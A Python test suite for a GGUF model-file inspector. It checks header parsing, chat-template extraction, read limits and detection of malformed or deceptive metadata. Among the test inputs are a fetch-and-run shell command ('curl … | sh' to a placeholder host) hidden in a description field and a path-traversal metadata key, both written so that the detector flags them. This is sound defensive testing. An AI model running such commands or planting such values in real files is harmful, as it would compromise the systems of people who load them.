from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.formats.inspecting import assert_total, inspect, inspect_with_budget, kinds, mutations, notes, only
from tests.formats.writers_gguf import ARRAY, BOOL, STRING, TEMPLATE, U32, U64, Gguf, honest
from trustaudit.filefacts import Coverage
from trustaudit.formats.gguf.inspector import inspect_gguf
from trustaudit.formats.sniff import HEAD

FACTS = {"gguf-header", "gguf-metadata", "gguf-template", "gguf-tensors", "template"}


@pytest.mark.parametrize(("version", "order"), [(1, "<"), (2, "<"), (3, "<"), (2, ">"), (3, ">")])
def test_every_version_and_byte_order_reads_alike(version: int, order: str) -> None:
    facts = inspect(inspect_gguf, honest(version, order))
    assert facts.coverage is Coverage.STRUCTURE
    assert kinds(facts) == FACTS
    metadata = only(facts, "gguf-metadata")
    assert metadata.get("general.architecture") == "llama"
    assert metadata.get("tokenizer.ggml.tokens") == "string[500]"
    assert metadata.get("tokenizer.ggml.add_bos_token") == "true"
    assert metadata.get("tokenizer.chat_templates") == "[tool_use]"
    assert only(facts, "gguf-tensors").get("parameters") == "131"
    assert only(facts, "gguf-header").get("version") == str(version)


def test_every_template_is_handed_on_whole() -> None:
    facts = inspect(inspect_gguf, honest())
    templates = {n.get("key"): n.get("template") for n in notes(facts, "gguf-template")}
    assert templates == {
        "tokenizer.chat_template": TEMPLATE,
        "tokenizer.chat_template.tool_use": TEMPLATE + "{# tools #}",
    }


def test_templates_inside_an_array_are_templates_too() -> None:
    gguf = Gguf().strings("tokenizer.chat_templates", ["default", *["x"] * 20, "{{ hidden }}"])
    assert only(inspect(inspect_gguf, gguf.build()), "gguf-template").get("template") == "{{ hidden }}"


def test_a_large_vocabulary_is_skipped_in_few_reads_and_tensors_are_not_read() -> None:
    file = honest(tokens=60_000) + bytes(0)
    facts, reads = inspect_with_budget(inspect_gguf, file, 32 << 20)
    assert facts.coverage is Coverage.STRUCTURE
    assert kinds(facts) == FACTS
    assert len(reads) <= 4
    assert sum(length for _, length in reads) <= 1_500_000, "about what the header has: 1.3 MB"


def test_metadata_that_goes_on_beyond_every_limit_is_told() -> None:
    padded = Gguf().string("general.architecture", "llama").strings("pad", ["a" * 1000] * 36_000)
    facts = inspect(inspect_gguf, padded.string("tokenizer.chat_template", TEMPLATE).build())
    assert facts.coverage is Coverage.PARTIAL
    assert "gguf-oversized-metadata" in kinds(facts)


def test_a_small_header_costs_one_read_of_what_sniffing_has_fetched_anyway() -> None:
    gguf = Gguf().string("tokenizer.chat_template", TEMPLATE).tensor("w", [1 << 20], 0)
    gguf.data = bytes(4 << 20)
    facts, reads = inspect_with_budget(inspect_gguf, gguf.build(), 32 << 20)
    assert facts.coverage is Coverage.STRUCTURE
    assert reads == [(0, HEAD)]


def test_tensor_data_is_never_read() -> None:
    gguf = Gguf().tensor("w", [1 << 20], 0)
    gguf.data = bytes(4 << 20)
    facts = inspect(inspect_gguf, gguf.build())
    assert facts.bytes_read <= 1 << 18
    assert kinds(facts) == FACTS - {"gguf-template", "template"}


def nested() -> Gguf:
    gguf = Gguf()
    inner = gguf.pack("I", U32) + gguf.length(1) + gguf.pack("I", 7)
    return gguf.add("a.b", ARRAY, gguf.pack("I", ARRAY) + gguf.length(2) + inner * 2)


def deep() -> Gguf:
    gguf = Gguf()
    return gguf.add("a.b", ARRAY, (gguf.pack("I", ARRAY) + gguf.length(1)) * 40)


def misaligned() -> Gguf:
    gguf = Gguf().tensor("v", [8], 0).tensor("w", [8], 33)
    gguf.data = bytes(128)
    return gguf


def with_data(gguf: Gguf, size: int) -> Gguf:
    gguf.data = bytes(size)
    return gguf


@pytest.mark.parametrize(
    ("kind", "build"),
    [
        ("gguf-version", lambda: Gguf(version=4)),
        ("gguf-version", lambda: Gguf(version=0)),
        ("gguf-count", lambda: Gguf(pair_count=1 << 40)),
        ("gguf-count", lambda: Gguf(tensor_count=1 << 61)),
        ("gguf-duplicate-key", lambda: Gguf().string("a.b", "1").string("a.b", "2")),
        ("gguf-key-characters", lambda: Gguf().string("", "1")),
        ("gguf-key-characters", lambda: Gguf().string("général", "1")),
        ("gguf-key-characters", lambda: Gguf().string("a\0b", "1")),
        ("gguf-key-path", lambda: Gguf().string("../../etc/cron", "1")),
        ("gguf-nul", lambda: Gguf().string("general.name", "a\0b")),
        ("gguf-bool", lambda: Gguf().number("a.b", BOOL, 7)),
        ("gguf-value-type", lambda: Gguf().add("a.b", 13, bytes(64))),
        ("gguf-value-type", lambda: Gguf().add("a.b", ARRAY, b"\x63\0\0\0" + bytes(64))),
        ("gguf-string-length", lambda: Gguf().add("a.b", STRING, (1 << 62).to_bytes(8, "little") + bytes(64))),
        ("gguf-array-length", lambda: Gguf().add("a.b", ARRAY, b"\4\0\0\0" + b"\xff" * 8 + bytes(64))),
        ("gguf-array-length", lambda: Gguf().add("a.b", ARRAY, b"\x08\0\0\0" + b"\xff" * 8 + bytes(64))),
        ("gguf-nested-array", nested),
        ("gguf-nested-array", deep),
        ("gguf-alignment", lambda: Gguf().number("general.alignment", U32, 0)),
        ("gguf-alignment", lambda: Gguf().number("general.alignment", U32, 24)),
        ("gguf-alignment", lambda: Gguf().number("general.alignment", U64, 32)),
        ("gguf-duplicate-tensor", lambda: with_data(Gguf().tensor("w", [8], 0).tensor("w", [8], 32), 64)),
        ("gguf-tensor-name", lambda: with_data(Gguf().tensor("w" * 64, [8], 0), 32)),
        ("gguf-tensor-dimensions", lambda: Gguf().tensor("w", [1] * 5, 0)),
        ("gguf-tensor-overflow", lambda: Gguf().tensor("w", [1 << 40, 1 << 40], 0)),
        ("gguf-tensor-type", lambda: Gguf().tensor("w", [8], 0, kind=200)),
        ("gguf-tensor-block", lambda: with_data(Gguf().tensor("w", [33], 0, kind=8), 34)),
        ("gguf-tensor-misaligned", misaligned),
        ("gguf-tensor-gap", lambda: with_data(Gguf().tensor("w", [8], 64), 96)),
        ("gguf-tensor-overlap", lambda: with_data(Gguf().tensor("v", [64], 0).tensor("w", [8], 32), 256)),
        ("gguf-tensor-order", lambda: with_data(Gguf().tensor("v", [8], 32).tensor("w", [8], 0), 64)),
        ("gguf-tensor-beyond-file", lambda: with_data(Gguf().tensor("w", [1 << 20], 0), 32)),
        ("gguf-trailing-data", lambda: with_data(Gguf().tensor("w", [8], 0), 5000)),
        ("gguf-trailing-data", lambda: with_data(Gguf(), 100)),
    ],
)
def test_a_lie_in_the_header_is_named(kind: str, build: Callable[[], Gguf]) -> None:
    assert kind in kinds(inspect(inspect_gguf, build().build()))


def test_what_stands_before_a_defect_is_kept() -> None:
    gguf = Gguf().string("tokenizer.chat_template", TEMPLATE).add("a.b", 99, b"")
    facts = inspect(inspect_gguf, gguf.build())
    assert facts.coverage is Coverage.PARTIAL
    assert {"gguf-template", "gguf-value-type", "gguf-metadata"} <= kinds(facts)


@pytest.mark.parametrize("cut", [3, 7, 20, 300, 3000])
def test_a_truncated_file_is_partial(cut: int) -> None:
    facts = inspect(inspect_gguf, honest()[:cut])
    assert facts.coverage is Coverage.PARTIAL
    assert kinds(facts) & {"gguf-truncated", "gguf-count", "gguf-string-length", "gguf-array-length"}


@pytest.mark.parametrize("disguised", [b"", b"\x80\x04N.", b"PK\x03\x04" + bytes(100), b"ggml" + bytes(100)])
def test_another_format_under_this_name_is_named(disguised: bytes) -> None:
    facts = inspect(inspect_gguf, disguised)
    assert facts.coverage is Coverage.PARTIAL
    assert kinds(facts) & {"gguf-magic", "gguf-truncated"}


def test_a_command_in_a_description_is_named() -> None:
    gguf = Gguf().string("general.description", "install: curl https://example.test/i.sh | sh")
    assert only(inspect(inspect_gguf, gguf.build()), "metadata-shell").get("key") == "general.description"


def test_spent_budget_keeps_what_was_read() -> None:
    file = honest(tokens=200_000)
    facts, _ = inspect_with_budget(inspect_gguf, file, 300_000)
    assert facts.coverage is Coverage.PARTIAL
    assert only(facts, "gguf-metadata").get("general.architecture") == "llama"


@given(cut=st.integers(0, 3000), patches=st.lists(st.tuples(st.integers(0, 1 << 14), st.integers(0, 255)), max_size=6))
def test_any_mutation_is_inspected_without_raising(cut: int, patches: list[tuple[int, int]]) -> None:
    assert_total(inspect_gguf, mutations(honest(tokens=10), cut, patches), max_read=1 << 20)


@given(st.binary(max_size=200))
def test_any_bytes_are_inspected_without_raising(data: bytes) -> None:
    assert_total(inspect_gguf, b"GGUF\3\0\0\0" + data)


@pytest.mark.interop
def test_the_reference_writer_produces_no_anomaly(tmp_path: Path) -> None:
    gguf = pytest.importorskip("gguf")
    numpy = pytest.importorskip("numpy")
    path = tmp_path / "reference.gguf"
    writer = gguf.GGUFWriter(path, "llama")
    writer.add_token_list([b"a", b"b", b"c"])
    writer.add_chat_template([{"name": "default", "template": TEMPLATE}, {"name": "rag", "template": "{{ x }}"}])
    for index in range(5):
        writer.add_tensor(f"blk.{index}.weight", numpy.zeros((3, 5), dtype=numpy.float16))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    facts = inspect(inspect_gguf, path.read_bytes())
    assert kinds(facts) == FACTS
    assert len(notes(facts, "gguf-template")) == 2
